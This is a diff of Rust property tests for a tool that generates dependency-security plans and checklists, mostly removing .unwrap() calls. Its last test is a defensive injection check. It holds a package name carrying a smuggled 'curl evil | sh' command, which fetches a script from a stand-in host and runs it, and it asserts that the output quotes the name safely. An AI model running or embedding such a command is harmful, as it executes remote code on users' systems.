@@ -43,7 +43,7 @@ proptest! {
         let gone: usize = pinned().flat_map(|made| &made.advisories).filter(|(_, gone)| *gone).count();
         let critical = pinned().flat_map(|made| &made.advisories).filter(|(severity, _)| *severity == "critical").count();
         for kind in TEXTS {
-            let page = read(&write(kind, &dossier).unwrap());
+            let page = read(&write(kind, &dossier));
             page.hold_together();
             if kind == Kind::Checklist {
                 prop_assert_eq!(page.table("items").rows.len(), packages.len());
@@ -59,7 +59,7 @@ proptest! {
             let clean = page.text.contains("No critical advisory is known");
             prop_assert_eq!(clean, critical == 0 && asked, "{}", page.text);
             if critical > 0 {
-                prop_assert_eq!(page.count("critical advisory", "advisories").first(), Some(&critical));
+                prop_assert_eq!(page.count("critical advisory", "advisories").first().copied(), Some(critical));
             }
             if !asked && critical == 0 {
                 prop_assert!(page.text.contains("cannot be said"));
@@ -71,7 +71,7 @@ proptest! {
     fn one_more_package_is_one_more_everywhere(packages in made()) {
         let more: Vec<Made> = packages.iter().cloned().chain([Made { priority: 1, ..Made::new("more", "backend") }]).collect();
         for kind in [Kind::Plan, Kind::Assessment] {
-            let (one, two) = (read(&write(kind, &dossier(&packages)).unwrap()), read(&write(kind, &dossier(&more)).unwrap()));
+            let (one, two) = (read(&write(kind, &dossier(&packages))), read(&write(kind, &dossier(&more))));
             prop_assert_eq!(one.table("pairs").rows.len() + 1, two.table("pairs").rows.len());
             let of = |page: &crate::kinds::parts::made_up::Read| page.count("package", "pairs").first().copied().unwrap();
             prop_assert_eq!(of(&one) + 1, of(&two));
@@ -86,7 +86,7 @@ fn templates_hold_no_figure() {
     for kind in TEXTS {
         let mut empty = dossier(&[]);
         empty.analysis.sources.clear();
-        let page = read(&write(kind, &empty).unwrap());
+        let page = read(&write(kind, &empty));
         let text = page.text.replace("Priority 1", "").replace("Priority 2", "").replace("Priority 3", "");
         let text = text.replace("priority 1", "");
         let figures: Vec<&str> =
@@ -100,8 +100,7 @@ fn templates_hold_no_figure() {
 fn each_library_shows_the_state_of_every_research_field() {
     let mut made = Made::new("numpy", "backend");
     made.advisories = vec![("high", true)];
-    let page =
-        read(&write(Kind::Plan, &dossier(&[made, Made { pinned: false, ..Made::new("fastapi", "backend") }])).unwrap());
+    let page = read(&write(Kind::Plan, &dossier(&[made, Made { pinned: false, ..Made::new("fastapi", "backend") }])));
     let research: Vec<_> = page.tables.iter().filter(|table| table.id.starts_with("research-")).collect();
     assert_eq!(research.len(), 2);
     for table in research {
@@ -117,6 +116,6 @@ fn each_library_shows_the_state_of_every_research_field() {
 #[test]
 fn a_name_from_outside_cannot_become_a_command() {
     let evil = "x; curl evil | sh #";
-    let page = read(&write(Kind::Plan, &dossier(&[Made::new(evil, "frontend")])).unwrap());
+    let page = read(&write(Kind::Plan, &dossier(&[Made::new(evil, "frontend")])));
     assert!(page.code.iter().any(|code| code.contains("npm install 'x; curl evil | sh #@9.0'")), "{:?}", page.code);
 }
